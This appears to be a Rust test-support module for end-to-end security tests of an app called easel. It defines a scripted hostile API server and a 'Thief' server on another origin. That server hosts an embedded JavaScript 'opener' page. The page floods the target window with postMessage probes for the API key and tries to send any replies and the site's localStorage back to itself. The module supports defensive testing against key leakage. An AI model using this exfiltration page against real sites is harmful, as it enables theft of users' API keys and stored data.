//! A hostile service that answers as a test says, and another origin that collects whatever it
//! gets.

use std::{
    collections::VecDeque,
    sync::{Arc, Mutex},
};

use easel_e2e::{RawAnswer, RawRequest, RawServer};

/// Headers that allow any page to read an answer, and to send any header.
const FOR_ALL: &str = "Access-Control-Allow-Origin: *\r\nAccess-Control-Allow-Headers: *, Authorization\r\n\
    Access-Control-Allow-Methods: *\r\nAccess-Control-Expose-Headers: *\r\nCache-Control: no-store\r\n";

/// A picture that browsers show.
const PICTURE: &str =
    "<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'><path d='M0 0h9v9H0z'/></svg>";

/// The number of messages that the hostile page sends.
pub(super) const MESSAGES: usize = 8;

/// A hostile page. It opens the site, sends it these messages, and reports the answers.
const OPENER: &str = "<!doctype html><title>opener</title><body><script>
    const words = [
        'key', {type: 'key'}, {type: 'getKey', key: true}, {encode: {width: 2, height: 2, rate: 1, count: 1}},
        {type: 'state'}, ['easel.key'], {keys: '?'}, {name: 'easel', message: 'Keys'},
    ];
    onmessage = event => fetch('/told?' + encodeURIComponent(JSON.stringify(event.data)));
    window.attack = async () => {
        const site = open(location.hash.slice(1) + 'image');
        for (let round = 0; round < 20; round++) {
            for (const word of words) site.postMessage(word, '*');
            await new Promise(go => setTimeout(go, 100));
        }
        try { await fetch('/told?' + encodeURIComponent(JSON.stringify(site.localStorage))); } catch {}
        await fetch('/all-sent');
    };
</script>";

/// Returns an answer that any page may read.
pub(super) fn response(status: &str, headers: &str, body: &str) -> String {
    typed(status, headers, "application/json", body)
}

fn typed(status: &str, headers: &str, kind: &str, body: &str) -> String {
    let length = body.len();
    format!(
        "HTTP/1.1 {status}\r\n{FOR_ALL}{headers}Content-Type: {kind}\r\nContent-Length: {length}\r\n\
         Connection: close\r\n\r\n{body}"
    )
}

#[derive(Default)]
struct Script {
    models: String,
    poll: String,
    /// The answers to the next POST requests, in turn.
    posts: VecDeque<String>,
    /// The statuses with which media are redirected once they have the key, and the new origin.
    redirects: (Vec<&'static str>, String),
}

/// The hostile service that the key belongs to.
pub(super) struct Evil {
    server: RawServer,
    script: Arc<Mutex<Script>>,
}

impl Evil {
    pub(super) fn start(key: &str) -> Self {
        let script = Arc::new(Mutex::new(Script::default()));
        let (of_server, key) = (script.clone(), key.to_owned());
        let server = RawServer::start(move |request| {
            let mut script = of_server.lock().expect("no thread panics");
            RawAnswer::Send(script.answer(&key, request))
        });
        Self { server, script }
    }

    pub(super) fn base_url(&self) -> String {
        format!("http://{}", self.address())
    }

    /// Returns the host and port.
    pub(super) fn address(&self) -> String {
        self.server.address().to_string()
    }

    pub(super) fn requests(&self) -> Vec<RawRequest> {
        self.server.requests()
    }

    pub(super) fn set_models(&self, answer: String) {
        self.change(|script| script.models = answer);
    }

    pub(super) fn set_poll(&self, answer: String) {
        self.change(|script| script.poll = answer);
    }

    pub(super) fn redirect_media(&self, statuses: &[&'static str], place: &str) {
        self.change(|script| script.redirects = (statuses.to_vec(), place.to_owned()));
    }

    /// Adds an answer for a later POST, after all answers that are still waiting.
    pub(super) fn queue(&self, answer: String) {
        self.change(|script| script.posts.push_back(answer));
    }

    pub(super) fn posted(&self) -> usize {
        self.count("POST", "/v1/")
    }

    pub(super) fn polls(&self) -> usize {
        self.count("GET", "/v1/tasks/")
    }

    fn count(&self, method: &str, start: &str) -> usize {
        let requests = self.server.requests().into_iter();
        let counted =
            requests.filter(|asked| asked.method == method && asked.path.starts_with(start));
        counted.count()
    }

    fn change(&self, change: impl FnOnce(&mut Script)) {
        change(&mut self.script.lock().expect("no thread panics"));
    }
}

impl Script {
    fn answer(&mut self, key: &str, request: &RawRequest) -> String {
        let path = request.path.as_str();
        match request.method.as_str() {
            "OPTIONS" => response("204 No Content", "", ""),
            "POST" => self
                .posts
                .pop_front()
                .unwrap_or_else(|| response("404 Not Found", "", "{}")),
            _ if path == "/v1/models" => self.models.clone(),
            _ if path.starts_with("/v1/tasks/") => self.poll.clone(),
            _ if request.header("authorization") != format!("Bearer {key}") => {
                response("401 Unauthorized", "", "{}")
            }
            _ => {
                let (statuses, place) = &self.redirects;
                let status = statuses
                    .iter()
                    .find(|status| path.starts_with(&format!("/media/{}", &status[..3])));
                let to = format!("Location: {place}/from-media\r\n");
                match status {
                    Some(status) => response(status, &to, ""),
                    None => typed("200 OK", "", "image/svg+xml", PICTURE),
                }
            }
        }
    }
}

/// A server of another origin.
pub(super) struct Thief(RawServer);

impl Thief {
    pub(super) fn start() -> Self {
        Self(RawServer::start(|request| {
            let answer = match request.path.as_str() {
                "/page" => typed(
                    "200 OK",
                    "",
                    "text/html",
                    "<!doctype html><title>page</title><body>",
                ),
                "/opener" => typed("200 OK", "", "text/html", OPENER),
                path if path.starts_with("/401") => {
                    response("401 Unauthorized", "WWW-Authenticate: Bearer\r\n", "{}")
                }
                path if path.starts_with("/403") => response("403 Forbidden", "", "{}"),
                _ => typed("200 OK", "", "image/svg+xml", PICTURE),
            };
            RawAnswer::Send(answer)
        }))
    }

    pub(super) fn origin(&self) -> String {
        format!("http://{}", self.0.address())
    }

    pub(super) fn page(&self) -> String {
        self.origin() + "/page"
    }

    pub(super) fn opener(&self, site: &str) -> String {
        format!("{}/opener#{site}", self.origin())
    }

    /// Replaces `THIEF` in a text by host and port.
    pub(super) fn named_in(&self, text: &str) -> String {
        text.replace("THIEF", &self.0.address().to_string())
    }

    /// Returns a redirect to this server.
    pub(super) fn redirect(&self, status: &str, from: &str) -> String {
        let to = format!("Location: {}/{from}\r\n", self.origin());
        response(status, &to, "{}")
    }

    pub(super) fn requests(&self) -> Vec<RawRequest> {
        self.0.requests()
    }
}
